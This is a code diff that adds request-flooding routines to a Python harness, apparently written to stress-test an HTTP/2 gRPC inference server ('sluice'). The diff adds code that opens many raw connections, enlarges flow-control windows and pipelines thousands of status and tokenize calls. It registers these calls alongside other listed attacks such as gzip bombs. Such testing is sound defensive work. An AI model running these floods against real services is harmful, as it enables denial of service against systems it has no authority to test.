@@ -8,6 +8,7 @@ a connection has answered: the attack goes on with the next one, as long as that
 """
 
 import gzip
+import selectors
 import socket
 import ssl
 import struct
@@ -15,10 +16,11 @@ import sys
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS = 1, 4
 GENERATE = "/sluice.v1.GenerationService/Generate"
 TOKENIZE = "/sluice.v1.GenerationService/Tokenize"
+STATUS = "/sluice.v1.GenerationService/GetStatus"
 SESSION = "/sluice.v1.GenerationSessionService/OpenSession"
 WATCH = "/grpc.health.v1.Health/Watch"
 REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
@@ -241,6 +243,75 @@ def wrong_tokens(endpoint, count):
     return None
 
 
+def served_calls(path, payload=b"", at_once=200, connections=20):
+    """Calls in order, that are served: `at_once` under way on each of so many connections, and the next ones as they end."""
+    def attack(endpoint, count):
+        """COUNT calls in all. Those of a connection that the server closes do not come again."""
+        headers, left = fields(path), count
+        open_ones, under_way, parser = selectors.DefaultSelector(), {}, {}
+
+        def send(connection, number):
+            parts = []
+            for _ in range(number):
+                stream = connection.next_stream()
+                coded = block(headers) if stream == 1 else named(len(headers))
+                parts.append(frame(HEADERS, END_HEADERS, stream, coded) + frame(DATA, END_STREAM, stream, message(payload)))
+            under_way[connection] += number
+            connection.send(b"".join(parts))
+
+        def connect():
+            connection = Connection(endpoint).open()
+            connection.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)))
+            under_way[connection], parser[connection] = 0, b""
+            open_ones.register(connection.socket, selectors.EVENT_READ, connection)
+            return connection
+
+        say("at work")
+        ones = [connect() for _ in range(connections)]
+        for connection in ones:  # one that is served, and the server knows the connection
+            send(connection, 1)
+        for connection in ones:
+            while under_way[connection] > 0:
+                streams, parser[connection] = ended_streams(parser[connection] + connection.socket.recv(1 << 16))
+                under_way[connection] -= streams
+        for connection in ones:
+            number = min(at_once, left)
+            left -= number
+            send(connection, number)
+        while sum(under_way.values()) > 0:
+            for key, _ in open_ones.select(30):
+                connection = key.data
+                try:
+                    data = connection.socket.recv(1 << 18)
+                    if not data:
+                        raise OSError
+                    streams, parser[connection] = ended_streams(parser[connection] + data)
+                    under_way[connection] -= streams
+                    number = min(at_once - under_way[connection], left)
+                    if number >= at_once // 4 or number == left > 0:
+                        left -= number
+                        send(connection, number)
+                except OSError:
+                    open_ones.unregister(connection.socket)
+                    under_way.pop(connection)
+                    connection.close()
+        return None
+    return attack
+
+
+def ended_streams(data):
+    """How many streams the whole frames in `data` end, and what is left of it."""
+    at, ended = 0, 0
+    while at + 9 <= len(data):
+        length = int.from_bytes(data[at:at + 3], "big")
+        if at + 9 + length > len(data):
+            break
+        kind, flags = data[at + 3], data[at + 4]
+        ended += kind == RST_STREAM or (kind in (DATA, HEADERS) and flags & END_STREAM)
+        at += 9 + length
+    return ended, data[at:]
+
+
 def names_that_are_no_text(endpoint, count):
     """COUNT long calls for tenants whose names are not UTF-8."""
     request = b"\x12\x01a\x32\x02\x18\x01\x38\x90\x03"  # text, stop.ignore_eos, max_tokens
@@ -267,6 +338,10 @@ ATTACKS = {
     "gzip_bombs": gzip_bombs,
     "unfinished_messages": unfinished_messages,
     "wrong_tokens": wrong_tokens,
+    "status_calls": served_calls(STATUS),
+    "status_calls_at_once": served_calls(STATUS, at_once=2000),
+    "list_calls": served_calls(STATUS, b"\x08\x01"),  # with all requests
+    "tokenize_calls": served_calls(TOKENIZE, b"\x0a\x05a b c"),
     "names_that_are_no_text": names_that_are_no_text,
 }
 
